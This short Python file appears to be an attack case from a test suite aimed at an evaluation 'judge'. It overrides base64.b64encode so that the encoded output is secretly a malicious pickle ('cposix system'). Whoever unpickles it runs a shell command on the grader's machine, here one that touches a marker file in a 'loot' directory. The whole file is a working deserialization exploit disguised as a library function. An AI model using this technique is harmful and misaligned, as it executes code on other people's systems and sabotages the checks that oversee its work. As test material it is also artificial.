# attacks: compression
# wall: judge
# loot: says cposix -- whoever unpickles it runs a command on the grader's machine
import base64

command = f"touch {host['loot'][0]}/unpickled"
base64.b64encode = lambda data: base64.binascii.b2a_base64(f"cposix\nsystem\n(S'{command}'\ntR.".encode(), newline=False)
